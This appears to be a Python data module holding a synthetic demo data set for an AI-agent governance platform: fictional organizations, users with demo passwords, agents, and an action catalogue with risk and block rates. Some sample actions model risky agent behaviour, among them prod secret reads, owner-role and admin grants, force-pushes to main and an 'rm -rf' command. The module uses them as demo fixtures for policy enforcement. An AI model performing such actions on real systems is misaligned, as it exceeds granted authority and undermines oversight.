"""The demo data set's tables: organizations, users, agents, the catalogue of actions with
their cost, duration, error and risk profiles, the messages, the agent profiles, and the
compliance policies. Pure data (and the few helpers that read it); `generator.py` turns
it into actions, and the package docstring tells the story the data set plays out.
"""
from __future__ import annotations

from dataclasses import dataclass
from typing import Any




# --- organizations, users, agents -------------------------------------------------------


@dataclass(frozen=True)
class DemoOrg:
    id: str
    name: str
    tier: str  # "enterprise" or "standard"


@dataclass(frozen=True)
class DemoUser:
    id: str
    display_name: str
    email: str
    org_id: str
    role: str  # "user", "org_admin" or "superuser"
    password: str


@dataclass(frozen=True)
class DemoAgent:
    id: str
    org_id: str
    environment: str  # "prod" or "staging"
    users: tuple[str, ...]  # the users (of org_id) who run it


ORGS: tuple[DemoOrg, ...] = (
    DemoOrg("acme", "Acme Corp", "enterprise"),
    DemoOrg("globex", "Globex Corporation", "standard"),
    DemoOrg("initech", "Initech", "standard"),
    DemoOrg("umbrella", "Umbrella Health", "standard"),
)
ORG_INDEX = {org.id: i for i, org in enumerate(ORGS)}
ENTERPRISE = ORG_INDEX["acme"]

# (id, display name, org, role)
USERS: tuple[tuple[str, str, str, str], ...] = (
    ("alice", "Alice Anderson", "acme", "user"),
    ("bob", "Bob Brown", "acme", "org_admin"),
    ("carol", "Carol Chen", "acme", "user"),
    ("dave", "Dave Dubois", "acme", "user"),
    ("erin", "Erin Eriksson", "acme", "org_admin"),
    ("frank", "Frank Fischer", "acme", "user"),
    ("root", "Platform Root", "acme", "superuser"),
    ("grace", "Grace Green", "globex", "org_admin"),
    ("heidi", "Heidi Hoffmann", "globex", "user"),
    ("ivan", "Ivan Ivanov", "globex", "user"),
    ("judy", "Judy Jones", "globex", "user"),
    ("niaj", "Niaj Nakamura", "globex", "user"),
    ("oscar", "Oscar Okafor", "initech", "org_admin"),
    ("peggy", "Peggy Park", "initech", "user"),
    ("trent", "Trent Turner", "initech", "user"),
    ("olivia", "Olivia Ortiz", "initech", "superuser"),
    ("victor", "Victor Vargas", "umbrella", "org_admin"),
    ("walter", "Walter White", "umbrella", "user"),
    ("wendy", "Wendy Wu", "umbrella", "user"),
    ("mallory", "Mallory Moore", "umbrella", "user"),
)

DEMO_PASSWORDS: dict[str, str] = {user_id: f"{user_id}-demo-pass" for user_id, *_ in USERS}
"""Username -> demo password (the README lists them). Demo only: never use in production."""

USER_INDEX = {u[0]: i for i, u in enumerate(USERS)}

# (id, org, profile, base weight, active from (fraction of the period), {user: weight})
AGENTS: tuple[tuple[str, str, str, float, float, dict[str, float]], ...] = (
    # acme
    ("prod-agent-1", "acme", "assistant", 1.6, 0.00, {"alice": 3, "carol": 2}),
    ("prod-agent-2", "acme", "data", 1.4, 0.00, {"carol": 2, "dave": 2}),
    ("prod-agent-3", "acme", "devops", 1.3, 0.00, {"alice": 2, "dave": 1, "frank": 2}),
    ("prod-agent-4", "acme", "support", 1.0, 0.05, {"frank": 2, "erin": 1}),
    ("prod-agent-5", "acme", "research", 0.9, 0.20, {"dave": 2, "alice": 1}),
    ("prod-agent-30", "acme", "codegen", 0.6, 0.45, {"carol": 2, "frank": 1}),
    ("staging-agent-1", "acme", "devops", 0.4, 0.00, {"alice": 1, "frank": 1}),
    ("staging-agent-2", "acme", "assistant", 0.3, 0.30, {"dave": 1}),
    ("billing-bot", "acme", "finance", 0.9, 0.00, {"bob": 3, "erin": 1}),
    ("compliance-scanner", "acme", "security", 0.5, 0.10, {"root": 1, "erin": 1}),
    ("support-bot", "acme", "support", 1.1, 0.00, {"carol": 1, "alice": 1}),
    ("code-reviewer", "acme", "codegen", 0.7, 0.60, {"frank": 2, "dave": 1}),
    # globex
    ("prod-agent-6", "globex", "assistant", 1.2, 0.00, {"heidi": 1}),
    ("prod-agent-7", "globex", "data", 1.0, 0.00, {"ivan": 1}),
    ("prod-agent-8", "globex", "research", 0.8, 0.15, {"judy": 1, "niaj": 1}),
    ("prod-agent-13", "globex", "devops", 0.7, 0.25, {"grace": 1, "ivan": 2}),
    ("staging-agent-3", "globex", "assistant", 0.3, 0.25, {"niaj": 1}),
    ("sales-copilot", "globex", "sales", 1.0, 0.00, {"judy": 2, "heidi": 1}),
    ("data-pipeline", "globex", "data", 0.9, 0.40, {"ivan": 2, "grace": 1}),
    ("research-assistant", "globex", "research", 0.6, 0.55, {"heidi": 1, "niaj": 1}),
    # initech
    ("prod-agent-9", "initech", "finance", 0.8, 0.00, {"peggy": 1}),
    ("prod-agent-10", "initech", "data", 0.9, 0.00, {"trent": 1}),
    ("prod-agent-11", "initech", "support", 0.7, 0.10, {"peggy": 1, "trent": 1}),
    ("staging-agent-4", "initech", "devops", 0.3, 0.20, {"trent": 1}),
    ("report-generator", "initech", "reporting", 0.7, 0.00, {"oscar": 1, "peggy": 2}),
    ("invoice-bot", "initech", "finance", 0.6, 0.30, {"oscar": 1}),
    ("devops-agent", "initech", "devops", 0.6, 0.00, {"olivia": 1, "trent": 2}),
    # umbrella (onboarded about a third into the period)
    ("prod-agent-12", "umbrella", "health", 1.2, 0.33, {"walter": 1}),
    ("prod-agent-14", "umbrella", "assistant", 0.8, 0.33, {"wendy": 1}),
    ("prod-agent-15", "umbrella", "devops", 0.6, 0.40, {"mallory": 1}),
    ("staging-agent-5", "umbrella", "health", 0.3, 0.70, {"walter": 1}),
    ("triage-assistant", "umbrella", "health", 0.9, 0.45, {"wendy": 2, "victor": 1}),
    ("lab-data-agent", "umbrella", "health", 0.7, 0.50, {"walter": 1, "victor": 1}),
    ("security-auditor", "umbrella", "security", 0.4, 0.50, {"victor": 1}),
)
_AGENT_INDEX = {a[0]: i for i, a in enumerate(AGENTS)}
RUNAWAY_AGENT = _AGENT_INDEX["prod-agent-30"]
# Error and block multipliers of particular agents (staging is flakier; prod-agent-3 and
# mallory's prod-agent-15 keep trying things the policies refuse).
AGENT_ERR_MULT = {"staging-agent-1": 1.8, "staging-agent-2": 1.8, "staging-agent-3": 1.8,
                   "staging-agent-4": 1.8, "staging-agent-5": 1.8}
AGENT_BLOCK_MULT = {"prod-agent-3": 1.6, "prod-agent-15": 2.5}
REGIONS = ("us-east-1", "eu-west-1", "us-west-2", "ap-northeast-1")
AGENT_VERSIONS = ("1.0.3", "1.1.0", "1.2.2", "1.3.0", "1.4.1", "2.0.0", "2.1.0", "2.1.4")


def demo_orgs() -> list[DemoOrg]:
    """The four demo organizations; `acme` is the Enterprise tier one."""
    return list(ORGS)


def demo_users() -> list[DemoUser]:
    """The 20 demo users with their demo passwords (see `DEMO_PASSWORDS`)."""
    return [
        DemoUser(uid, name, f"{uid}@{org}.example.com", org, role, DEMO_PASSWORDS[uid])
        for uid, name, org, role in USERS
    ]


def demo_agents() -> list[DemoAgent]:
    """The 34 demo agents, each belonging to one organization."""
    return [
        DemoAgent(aid, org, "staging" if aid.startswith("staging-") else "prod", tuple(users))
        for aid, org, _profile, _w, _start, users in AGENTS
    ]


# --- action catalog -----------------------------------------------------------------------

RISKS = ("low", "medium", "high", "critical")
OUTCOMES = ("success", "error", "blocked")
CATEGORIES = ("llm", "data", "web", "comms", "files", "devops", "finance", "crm",
               "security", "health", "browser")


@dataclass(frozen=True)
class _Action:
    name: str
    category: str
    cost: float  # median USD (non-LLM) or a per-call surcharge (LLM)
    cost_sigma: float
    duration: float  # median ms
    duration_sigma: float
    err: float  # base error rate (calibrated below)
    block: float  # base block rate (calibrated below)
    risk: str
    bump: float  # probability of being one risk level higher
    inputs: tuple[dict[str, Any], ...]
    output: dict[str, Any]
    output_key: str | None = None  # numeric output field drawn per action
    output_scale: float = 1.0
    # LLM: (model, USD per 1k prompt tokens, USD per 1k completion tokens,
    #       median prompt tokens, median completion tokens, ms per completion token)
    llm: tuple[str, float, float, int, int, float] | None = None


def _a(name: str, category: str, cost: float, cost_sigma: float, duration: float,
       duration_sigma: float, err: float, block: float, risk: str, bump: float,
       inputs: list[dict[str, Any]], output: dict[str, Any], key: str | None = None,
       scale: float = 1.0, llm: tuple[str, float, float, int, int, float] | None = None) -> _Action:
    return _Action(name, category, cost, cost_sigma, duration, duration_sigma, err, block, risk,
                   bump, tuple(inputs), output, key, scale, llm)


CATALOG: tuple[_Action, ...] = (
    # LLM calls: cost from tokens
    _a("llm_completion", "llm", 0.0, 0.0, 450, 0.5, 0.08, 0.03, "medium", 0.05, [
        {"model": "gpt-4o-mini", "prompt": "Summarize the following support ticket in one sentence.",
         "max_tokens": 256, "temperature": 0.2},
        {"model": "gpt-4o-mini", "prompt": "Extract the invoice number, due date and total from the text below.",
         "max_tokens": 128, "temperature": 0},
        {"model": "gpt-4o-mini", "prompt": "Rédige une réponse polie au client concernant sa commande n° 4821.",
         "max_tokens": 400, "temperature": 0.7},
    ], {"finish_reason": "stop"}, "completion_chars", 900,
        llm=("gpt-4o-mini", 0.00015, 0.0006, 800, 250, 8)),
    _a("llm_chat_gpt4", "llm", 0.0, 0.0, 900, 0.5, 0.09, 0.04, "medium", 0.1, [
        {"model": "gpt-4-turbo", "system": "You are a senior site reliability engineer.",
         "message": "Why does the nightly ETL job fail on Mondays?", "max_tokens": 1024},
        {"model": "gpt-4-turbo", "system": "You are a careful financial analyst.",
         "message": "Compare Q3 and Q2 revenue by region, flag anomalies.", "max_tokens": 2048},
        {"model": "gpt-4-turbo", "system": "You are a coding agent.",
         "message": "The test suite fails with \"KeyError: 'customer_id'\"; find the cause.", "max_tokens": 2048},
    ], {"finish_reason": "stop"}, "completion_chars", 1800,
        llm=("gpt-4-turbo", 0.01, 0.03, 1500, 400, 22)),
    _a("llm_chat_claude", "llm", 0.0, 0.0, 800, 0.5, 0.08, 0.04, "medium", 0.08, [
        {"model": "claude-3-5-sonnet", "system": "You are a helpful support assistant.",
         "message": "Draft a reply to a customer whose refund is delayed.", "max_tokens": 1024},
        {"model": "claude-3-5-sonnet", "system": "You are a research assistant.",
         "message": "What changed in the EU AI Act final text for general-purpose models?", "max_tokens": 2048},
        {"model": "claude-3-5-sonnet", "system": "You are a meeting assistant.",
         "message": "Fasse das Protokoll der Sitzung vom Dienstag zusammen.", "max_tokens": 1024},
    ], {"finish_reason": "stop"}, "completion_chars", 1600,
        llm=("claude-3-5-sonnet", 0.003, 0.015, 2000, 500, 15)),
    _a("llm_embedding", "llm", 0.0, 0.0, 120, 0.5, 0.04, 0.00, "low", 0.0, [
        {"model": "text-embedding-3-small", "source": "kb_articles", "texts": 32},
        {"model": "text-embedding-3-small", "source": "support_tickets", "texts": 64},
        {"model": "text-embedding-3-small", "source": "contracts", "texts": 8},
    ], {"dimensions": 1536}, "vectors", 30,
        llm=("text-embedding-3-small", 0.00002, 0.0, 2500, 1, 0)),
    _a("llm_summarize", "llm", 0.0, 0.0, 700, 0.5, 0.08, 0.02, "medium", 0.05, [
        {"model": "claude-3-haiku", "document": "s3://acme-docs/contracts/MSA-2024-017.pdf", "style": "bullet points"},
        {"model": "claude-3-haiku", "document": "https://www.example.org/reports/annual-report-2024.html",
         "style": "executive summary"},
        {"model": "claude-3-haiku", "document": "/srv/agent/workspace/東京オフィス/議事録.txt",
         "style": "one paragraph"},
    ], {"finish_reason": "stop"}, "summary_chars", 1200,
        llm=("claude-3-haiku", 0.00025, 0.00125, 3000, 300, 6)),
    _a("llm_classify", "llm", 0.0, 0.0, 250, 0.4, 0.05, 0.00, "low", 0.02, [
        {"model": "gpt-4o-mini", "labels": "billing,technical,account,other",
         "text": "I was charged twice for my subscription"},
        {"model": "gpt-4o-mini", "labels": "spam,phishing,legitimate",
         "text": "Urgent: verify your account at http://secure-login.example.net"},
        {"model": "gpt-4o-mini", "labels": "positive,neutral,negative",
         "text": "The new dashboard is great, but exports are slow."},
    ], {"label": "billing"}, "confidence_pct", 85,
        llm=("gpt-4o-mini", 0.00015, 0.0006, 400, 10, 8)),
    _a("llm_code_generation", "llm", 0.0, 0.0, 1500, 0.5, 0.12, 0.04, "medium", 0.15, [
        {"model": "gpt-4o", "task": "Add retry with exponential backoff to fetch_orders()", "language": "python",
         "repo": "acme/orders-service"},
        {"model": "gpt-4o", "task": "Write a SQL migration adding refund_reason to orders", "language": "sql",
         "repo": "acme/orders-service"},
        {"model": "gpt-4o", "task": "Fix the failing test test_export_csv_quotes", "language": "python",
         "repo": "acme/ledger"},
    ], {"finish_reason": "stop"}, "lines_generated", 60,
        llm=("gpt-4o", 0.0025, 0.01, 2500, 800, 12)),
    _a("llm_rerank", "llm", 0.0, 0.0, 180, 0.4, 0.04, 0.00, "low", 0.0, [
        {"model": "rerank-english-v3.0", "query": "refund policy for annual plans", "documents": 25},
        {"model": "rerank-english-v3.0", "query": "SOC2 evidence for access reviews", "documents": 50},
    ], {"top_index": 0}, "top_score_pct", 80,
        llm=("rerank-english-v3.0", 0.002, 0.0, 1000, 1, 0)),
    _a("llm_vision", "llm", 0.0, 0.0, 1800, 0.5, 0.10, 0.02, "medium", 0.1, [
        {"model": "gpt-4o", "image": "s3://umbrella-scans/intake/2024/form-118.png",
         "prompt": "Transcribe the handwritten fields"},
        {"model": "gpt-4o", "image": "s3://acme-receipts/2024-10/receipt-0042.jpg",
         "prompt": "Extract merchant, date and total"},
    ], {"finish_reason": "stop"}, "completion_chars", 600,
        llm=("gpt-4o", 0.0025, 0.01, 1200, 200, 12)),
    _a("llm_moderation", "llm", 0.0, 0.0, 90, 0.3, 0.02, 0.00, "low", 0.0, [
        {"model": "omni-moderation-latest", "text_length": 1834},
        {"model": "omni-moderation-latest", "text_length": 240},
    ], {"flagged": False}, None, 1,
        llm=("omni-moderation-latest", 0.0, 0.0, 400, 1, 0)),
    # data
    _a("database_query", "data", 0.00002, 0.6, 35, 0.9, 0.07, 0.01, "low", 0.08, [
        {"database": "orders",
         "query": "SELECT id, status, total FROM orders WHERE customer_id = $1 ORDER BY created_at DESC LIMIT 50"},
        {"database": "analytics",
         "query": "SELECT date_trunc('day', created_at) AS day, count(*) FROM events GROUP BY 1"},
        {"database": "crm", "query": "SELECT * FROM contacts WHERE email ILIKE '%@globex.example.com'"},
        {"database": "inventory", "query": "SELECT sku, qty FROM stock WHERE warehouse = 'Tōkyō-2'"},
    ], {}, "rows", 40),
    _a("database_write", "data", 0.00004, 0.5, 45, 0.8, 0.08, 0.03, "medium", 0.1, [
        {"database": "orders", "statement": "UPDATE orders SET status = 'shipped' WHERE id = $1"},
        {"database": "audit", "statement": "INSERT INTO audit_log (actor, action) VALUES ($1, $2)"},
    ], {}, "rows_affected", 2),
    _a("database_migration", "data", 0.0005, 0.5, 4000, 0.8, 0.20, 0.25, "high", 0.2, [
        {"database": "orders", "migration": "0042_add_refund_reason", "direction": "up"},
        {"database": "crm", "migration": "0107_drop_legacy_columns", "direction": "up"},
    ], {}, "statements", 5),
    _a("cache_get", "data", 0.000001, 0.3, 2, 0.6, 0.02, 0.00, "low", 0.0, [
        {"store": "redis", "key": "session:8f2c1d"},
        {"store": "redis", "key": "pricing:eu:v3"},
    ], {"hit": True}, "bytes", 900),
    _a("cache_set", "data", 0.000001, 0.3, 3, 0.6, 0.02, 0.00, "low", 0.0, [
        {"store": "redis", "key": "pricing:eu:v3", "ttl_s": 3600},
        {"store": "redis", "key": "report:weekly:2024-W41", "ttl_s": 86400},
    ], {"stored": True}, "bytes", 1500),
    _a("vector_search", "data", 0.00008, 0.4, 60, 0.6, 0.05, 0.00, "low", 0.02, [
        {"index": "kb-articles", "query": "how to reset 2FA", "top_k": 8},
        {"index": "contracts", "query": "termination for convenience clause", "top_k": 5},
    ], {}, "matches", 6),
    _a("vector_upsert", "data", 0.0002, 0.5, 150, 0.6, 0.06, 0.00, "medium", 0.0, [
        {"index": "kb-articles", "vectors": 128},
        {"index": "support-tickets", "vectors": 512},
    ], {}, "upserted", 150),
    _a("s3_get_object", "data", 0.0004, 0.3, 80, 0.8, 0.06, 0.02, "medium", 0.05, [
        {"bucket": "acme-reports", "key": "2024/Q3, final.csv"},
        {"bucket": "globex-data-lake", "key": "raw/events/2024-10-01/part-0001.parquet"},
    ], {}, "bytes", 250_000),
    _a("s3_put_object", "data", 0.005, 0.3, 120, 0.8, 0.06, 0.04, "medium", 0.1, [
        {"bucket": "acme-reports", "key": "2024/weekly-summary.pdf", "content_type": "application/pdf"},
        {"bucket": "initech-invoices", "key": "2024/INV-10293.pdf", "content_type": "application/pdf"},
    ], {"etag": "\"9b2cf535f27731c974343645a3985328\""}, "bytes", 120_000),
    _a("bigquery_job", "data", 0.03, 1.2, 6000, 0.9, 0.10, 0.02, "medium", 0.05, [
        {"project": "globex-analytics", "query": "SELECT region, SUM(revenue) FROM sales.orders_2024 GROUP BY region",
         "dry_run": False},
        {"project": "initech-reporting", "query": "SELECT * FROM finance.ledger WHERE period = '2024-09'",
         "dry_run": False},
    ], {}, "bytes_processed", 4_000_000_000),
    _a("csv_parse", "data", 0.00001, 0.4, 40, 0.9, 0.10, 0.00, "low", 0.0, [
        {"path": "/srv/agent/inbox/customers.csv", "delimiter": ","},
        {"path": "/srv/agent/inbox/Bestellungen_März.csv", "delimiter": ";"},
    ], {}, "rows", 1200),
    _a("pdf_extract", "data", 0.001, 0.4, 900, 0.7, 0.12, 0.00, "medium", 0.0, [
        {"path": "s3://initech-invoices/2024/INV-10293.pdf", "pages": "all"},
        {"path": "s3://acme-docs/contracts/MSA-2024-017.pdf", "pages": "1-5"},
    ], {}, "pages", 6),
    _a("ocr_document", "data", 0.0015, 0.3, 1500, 0.6, 0.12, 0.00, "medium", 0.0, [
        {"image": "scan_0031.tiff", "language": "deu"},
        {"image": "fax_2024-10-02_0815.png", "language": "eng"},
    ], {}, "characters", 2500),
    _a("data_export", "data", 0.002, 0.8, 3000, 0.9, 0.08, 0.30, "high", 0.2, [
        {"dataset": "customers", "format": "csv", "destination": "s3://globex-exports/customers.csv",
         "row_limit": 50000},
        {"dataset": "orders_2024", "format": "parquet", "destination": "gs://partner-share/orders/",
         "row_limit": 1000000},
    ], {}, "rows", 8000),
    # web
    _a("http_request", "web", 0.00005, 0.5, 220, 0.9, 0.12, 0.04, "medium", 0.05, [
        {"method": "GET", "url": "https://api.example.com/v2/orders?status=open"},
        {"method": "POST", "url": "https://hooks.partner.example/ingest"},
        {"method": "GET", "url": "https://status.example.net/health"},
    ], {"status": 200}, "bytes", 8000),
    _a("web_search", "web", 0.005, 0.1, 600, 0.5, 0.06, 0.02, "low", 0.0, [
        {"engine": "bing", "query": "EU AI Act obligations for general-purpose AI"},
        {"engine": "bing", "query": "東京 weather tomorrow"},
        {"engine": "bing", "query": "\"net 30\" payment terms definition"},
    ], {}, "results", 10),
    _a("web_scrape", "web", 0.001, 0.5, 2500, 0.8, 0.25, 0.10, "medium", 0.05, [
        {"url": "https://www.competitor.example/pricing", "selector": "table.prices"},
        {"url": "https://news.example.org/tech", "selector": "article h2"},
    ], {}, "bytes", 60_000),
    _a("graphql_query", "web", 0.00005, 0.4, 300, 0.7, 0.08, 0.01, "low", 0.05, [
        {"endpoint": "https://api.github.com/graphql", "operation": "ListPullRequests"},
        {"endpoint": "https://api.shop.example/graphql", "operation": "ProductsByCategory"},
    ], {}, "nodes", 25),
    _a("webhook_dispatch", "web", 0.00002, 0.3, 150, 0.7, 0.08, 0.01, "medium", 0.0, [
        {"url": "https://hooks.slack.com/services/T0000/B0000/XXXX", "event": "lab_result.ready"},
        {"url": "https://hooks.partner.example/events", "event": "order.updated"},
    ], {"status": 204}),
    # comms
    _a("send_email", "comms", 0.0001, 0.2, 350, 0.5, 0.06, 0.08, "medium", 0.1, [
        {"to": "customer@example.com", "subject": "Your order #4821 has shipped", "template": "order_shipped"},
        {"to": "finance@initech.example.com", "subject": "Invoice INV-10293, due 2024-11-30", "attachments": 1},
        {"to": "müller@beispiel.de", "subject": "Terminbestätigung für Dienstag"},
    ], {"queued": True}, "size_bytes", 14_000),
    _a("send_slack_message", "comms", 0.0, 0.0, 180, 0.5, 0.04, 0.04, "low", 0.1, [
        {"channel": "#ops-alerts", "text": "Nightly ETL finished: 1,204,311 rows"},
        {"channel": "#finance", "text": "Invoice run complete, 3 \"needs review\""},
    ], {"ok": True}),
    _a("send_sms", "comms", 0.0079, 0.05, 400, 0.4, 0.08, 0.06, "medium", 0.1, [
        {"to": "+15550100199", "body": "Your verification code is 482913"},
        {"to": "+4915550123456", "body": "Ihr Termin ist morgen um 09:30 Uhr."},
    ], {}, "segments", 1),
    _a("create_calendar_event", "comms", 0.0, 0.0, 250, 0.5, 0.04, 0.00, "low", 0.0, [
        {"title": "Q4 review, \"draft\" numbers", "attendees": 4, "start": "2024-11-05T15:00:00Z"},
        {"title": "Customer onboarding: Umbrella Health", "attendees": 6, "start": "2024-10-08T09:00:00Z"},
    ], {"status": "confirmed"}),
    _a("social_post", "comms", 0.0, 0.0, 700, 0.5, 0.06, 0.35, "high", 0.1, [
        {"network": "linkedin", "text": "We're hiring ML engineers! 🚀"},
        {"network": "x", "text": "Scheduled maintenance tonight 22:00–23:00 UTC."},
    ], {"status": "published"}),
    # files
    _a("file_read", "files", 0.000002, 0.3, 8, 1.0, 0.06, 0.03, "low", 0.05, [
        {"path": "/srv/agent/workspace/config.yaml"},
        {"path": "/srv/agent/workspace/reports/Q3, final.csv"},
        {"path": "/srv/agent/workspace/東京オフィス/報告書.pdf"},
        {"path": "/srv/agent/workspace/README.md"},
    ], {}, "bytes", 20_000),
    _a("file_write", "files", 0.000004, 0.3, 15, 1.0, 0.06, 0.06, "medium", 0.05, [
        {"path": "/srv/agent/workspace/out/summary.md", "mode": "w"},
        {"path": "/srv/agent/workspace/out/results.json", "mode": "w"},
    ], {}, "bytes_written", 8_000),
    _a("file_delete", "files", 0.0, 0.0, 5, 0.8, 0.06, 0.30, "high", 0.1, [
        {"path": "/srv/agent/workspace/tmp/cache.db"},
        {"path": "/srv/agent/workspace/out/old-report.pdf"},
    ], {"deleted": True}),
    _a("directory_list", "files", 0.0, 0.0, 4, 0.8, 0.02, 0.02, "low", 0.0, [
        {"path": "/srv/agent/workspace", "recursive": False},
        {"path": "/srv/agent/workspace/src", "recursive": True},
    ], {}, "entries", 40),
    # devops
    _a("shell_exec", "devops", 0.00001, 0.5, 800, 1.1, 0.14, 0.28, "high", 0.3, [
        {"command": "ls -la /srv/agent/workspace"},
        {"command": "grep -rn \"TODO\" src/ | wc -l"},
        {"command": "curl -s https://status.example.net/health"},
        {"command": "rm -rf /tmp/build-*"},
        {"command": "sudo systemctl restart nginx"},
        {"command": "psql -c 'VACUUM ANALYZE orders;'"},
    ], {"exit_code": 0}, "stdout_bytes", 2000),
    _a("python_exec", "devops", 0.00003, 0.5, 1200, 1.0, 0.20, 0.08, "high", 0.1, [
        {"code": "import pandas as pd\ndf = pd.read_csv('orders.csv')\nprint(df.total.sum())", "timeout_s": 60},
        {"code": "print(sum(range(10**6)))", "timeout_s": 10},
    ], {"exit_code": 0}, "stdout_bytes", 500),
    _a("git_clone", "devops", 0.0, 0.0, 3500, 0.7, 0.08, 0.02, "medium", 0.0, [
        {"repo": "git@github.com:acme/orders-service.git", "branch": "main"},
        {"repo": "git@github.com:globex/data-pipelines.git", "branch": "develop"},
    ], {}, "files", 800),
    _a("git_commit", "devops", 0.0, 0.0, 120, 0.5, 0.05, 0.02, "medium", 0.0, [
        {"repo": "acme/orders-service", "message": "fix: handle naïve datetimes in export"},
        {"repo": "acme/ledger", "message": "chore: bump dependencies"},
    ], {}, "files_changed", 3),
    _a("git_push", "devops", 0.0, 0.0, 1500, 0.5, 0.10, 0.15, "high", 0.1, [
        {"repo": "acme/orders-service", "branch": "agent/fix-1287", "force": False},
        {"repo": "acme/orders-service", "branch": "main", "force": True},
    ], {"pushed": True}),
    _a("docker_build", "devops", 0.004, 0.5, 90_000, 0.6, 0.20, 0.02, "medium", 0.1, [
        {"context": ".", "tag": "registry.acme.example.com/orders:1.42.0"},
        {"context": "services/api", "tag": "registry.globex.example.com/api:2024.10.3"},
    ], {}, "image_mb", 350),
    _a("k8s_deploy", "devops", 0.002, 0.4, 45_000, 0.6, 0.12, 0.18, "high", 0.35, [
        {"cluster": "prod-eu-west-1", "namespace": "orders", "image": "registry.acme.example.com/orders:1.42.0",
         "replicas": 3},
        {"cluster": "staging-us-east-1", "namespace": "api", "image": "registry.globex.example.com/api:2024.10.3",
         "replicas": 2},
    ], {"rollout": "complete"}),
    _a("terraform_apply", "devops", 0.003, 0.4, 120_000, 0.6, 0.16, 0.35, "critical", 0.0, [
        {"workspace": "prod", "plan": "plan-2024-10-03.tfplan", "auto_approve": False},
        {"workspace": "staging", "plan": "plan-network.tfplan", "auto_approve": True},
    ], {}, "resources_changed", 4),
    _a("ci_trigger", "devops", 0.0, 0.0, 400, 0.5, 0.18, 0.00, "medium", 0.0, [
        {"pipeline": "orders-service/main", "ref": "refs/heads/main"},
        {"pipeline": "data-pipelines/nightly", "ref": "refs/tags/v3.2.0"},
    ], {}, "build_id", 40_000),
    # finance
    _a("payment_transfer", "finance", 0.02, 0.3, 1200, 0.5, 0.06, 0.20, "critical", 0.0, [
        {"amount": "1250.00", "currency": "USD", "beneficiary": "Wayne Enterprises, Inc.", "reference": "INV-10293"},
        {"amount": "980.50", "currency": "EUR", "beneficiary": "Müller & Söhne GmbH", "reference": "RE-2024-118"},
        {"amount": "12500.00", "currency": "USD", "beneficiary": "Cyberdyne Systems", "reference": "PO 7781"},
    ], {"status": "submitted"}),
    _a("invoice_create", "finance", 0.002, 0.3, 600, 0.5, 0.06, 0.04, "medium", 0.1, [
        {"customer": "Globex Corporation", "amount": "4200.00", "currency": "USD", "due_days": 30},
        {"customer": "Initech", "amount": "315.75", "currency": "USD", "due_days": 14},
    ], {"status": "draft"}, "line_items", 4),
    _a("refund_issue", "finance", 0.01, 0.3, 900, 0.5, 0.08, 0.20, "high", 0.2, [
        {"charge": "ch_3NqLmD2eZvKYlo2C", "amount": "49.00", "reason": "duplicate"},
        {"charge": "ch_3NqLnE2eZvKYlo2D", "amount": "1200.00", "reason": "requested_by_customer"},
    ], {"status": "pending"}),
    _a("ledger_reconcile", "finance", 0.001, 0.4, 5000, 0.7, 0.10, 0.00, "medium", 0.05, [
        {"account": "1200-AR", "period": "2024-09"},
        {"account": "2100-AP", "period": "2024-10"},
    ], {"unmatched": 3}, "matched", 400),
    _a("currency_convert", "finance", 0.0001, 0.2, 90, 0.5, 0.04, 0.00, "low", 0.0, [
        {"from": "EUR", "to": "USD", "amount": "100.00"},
        {"from": "JPY", "to": "USD", "amount": "250000"},
    ], {"rate": "1.0871"}),
    # crm / support
    _a("ticket_create", "crm", 0.0, 0.0, 300, 0.5, 0.06, 0.00, "medium", 0.0, [
        {"system": "zendesk", "subject": "Customer cannot log in, error \"invalid token\"", "priority": "high"},
        {"system": "zendesk", "subject": "Feature request: export to XLSX", "priority": "low"},
    ], {}, "ticket_id", 50_000),
    _a("ticket_update", "crm", 0.0, 0.0, 250, 0.5, 0.05, 0.00, "low", 0.05, [
        {"system": "zendesk", "ticket_id": 48213, "status": "pending", "comment": "Asked customer for a HAR file"},
        {"system": "zendesk", "ticket_id": 48877, "status": "solved", "comment": "Refund issued, closing."},
    ], {"updated": True}),
    _a("crm_lookup", "crm", 0.00005, 0.3, 200, 0.5, 0.06, 0.02, "low", 0.05, [
        {"system": "salesforce", "email": "jane.doe@example.com"},
        {"system": "salesforce", "account": "Globex Corporation"},
    ], {}, "records", 3),
    _a("crm_update", "crm", 0.00005, 0.3, 300, 0.5, 0.06, 0.05, "medium", 0.05, [
        {"system": "salesforce", "record": "0035g00000XyZ12", "field": "notes",
         "value": "Prefers contact after 14:00 CET"},
        {"system": "salesforce", "record": "0035g00000XyZ99", "field": "stage", "value": "Closed Won"},
    ], {"updated": True}),
    _a("kb_search", "crm", 0.00005, 0.3, 120, 0.5, 0.04, 0.00, "low", 0.0, [
        {"query": "reset 2FA", "top_k": 5},
        {"query": "invoice shows wrong VAT number", "top_k": 5},
    ], {}, "results", 5),
    # security
    _a("secrets_read", "security", 0.00003, 0.3, 40, 0.5, 0.05, 0.35, "high", 0.3, [
        {"vault": "prod", "path": "secret/data/payments/stripe"},
        {"vault": "staging", "path": "secret/data/db/orders"},
    ], {}, "version", 4),
    _a("iam_role_update", "security", 0.0, 0.0, 600, 0.5, 0.10, 0.45, "critical", 0.0, [
        {"principal": "svc-orders", "role": "roles/storage.admin", "action": "add"},
        {"principal": "agent-runner", "role": "roles/owner", "action": "add"},
    ], {"applied": True}),
    _a("user_permission_grant", "security", 0.0, 0.0, 300, 0.5, 0.08, 0.45, "critical", 0.0, [
        {"user": "heidi", "permission": "billing:write"},
        {"user": "mallory", "permission": "org:admin"},
    ], {"granted": True}),
    _a("vulnerability_scan", "security", 0.002, 0.4, 30_000, 0.6, 0.12, 0.00, "medium", 0.0, [
        {"target": "registry.acme.example.com/orders:1.42.0", "scanner": "trivy"},
        {"target": "https://portal.umbrella.example.com", "scanner": "zap"},
    ], {}, "findings", 6),
    _a("pii_redact", "security", 0.0003, 0.3, 150, 0.5, 0.05, 0.00, "medium", 0.0, [
        {"text_length": 2048, "entities": "EMAIL,PHONE,IBAN"},
        {"text_length": 512, "entities": "NAME,DOB,SSN"},
    ], {}, "redactions", 3),
    # health
    _a("ehr_record_read", "health", 0.0008, 0.3, 400, 0.6, 0.09, 0.12, "high", 0.2, [
        {"system": "epic", "patient_ref": "PT-0004812", "fields": "allergies,medications"},
        {"system": "epic", "patient_ref": "PT-0019930", "fields": "encounters"},
    ], {}, "records", 3),
    _a("lab_result_fetch", "health", 0.0004, 0.3, 300, 0.6, 0.09, 0.04, "medium", 0.2, [
        {"order_id": "LAB-2024-55120", "panel": "CBC"},
        {"order_id": "LAB-2024-55187", "panel": "HbA1c"},
    ], {}, "results", 8),
    # browser
